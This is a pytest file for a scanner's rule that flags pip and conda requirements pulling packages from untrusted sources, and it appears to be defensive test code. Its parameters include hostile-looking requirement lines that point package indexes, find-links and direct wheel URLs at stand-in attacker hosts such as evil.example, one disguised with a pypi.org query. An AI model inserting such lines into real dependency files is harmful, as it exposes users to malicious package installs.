"""REQ001: requirements from elsewhere, in pip's files and in conda's."""

from __future__ import annotations

import json

import pytest

from modelkeep.core import Severity
from modelkeep.scan.requirement_source import DETECTOR
from samples import found_by


@pytest.mark.parametrize(
    ("line", "severity"),
    [
        ("--index-url http://192.0.2.1/simple", Severity.HIGH),
        ("--extra-index-url https://evil.example/simple", Severity.HIGH),
        ("-i https://evil.example/simple", Severity.HIGH),
        ("--find-links=https://evil.example/x", Severity.HIGH),
        ("--extra-index-url https://evil.example/?pypi.org", Severity.HIGH),
        ("pkg @ http://host/pkg.whl", Severity.HIGH),
        ("git+https://github.com/x/y", Severity.MEDIUM),
        ("pkg @ https://host/pkg.whl", Severity.MEDIUM),
        ("pkg @ file:///tmp/pkg.whl", Severity.MEDIUM),
    ],
)
def test_it_is_graded_in_every_kind_of_file(line: str, severity: Severity) -> None:
    conda = {"name": "x", "dependencies": ["python=3.11", {"pip": ["numpy==1", line]}]}
    for raw in (f"numpy==1.0\n{line}\n".encode(), json.dumps(conda).encode()):
        (finding,) = found_by(DETECTOR, raw, name="requirements.txt")
        assert finding.severity is severity


@pytest.mark.parametrize(
    "raw",
    [
        b"numpy==1.0\n--extra-index-url https://download.pytorch.org/whl/cu118\n",
        b"mlflow==2.9\nscikit-learn==1.4 --hash=sha256:aa\n",
        json.dumps({"dependencies": ["python=3.11", "pip<=23", {"pip": ["mlflow"]}]}).encode(),
        b'{"dependencies": {"left-pad": "1.0"}}',
    ],
)
def test_ordinary_requirements_are_silent(raw: bytes) -> None:
    assert found_by(DETECTOR, raw) == []
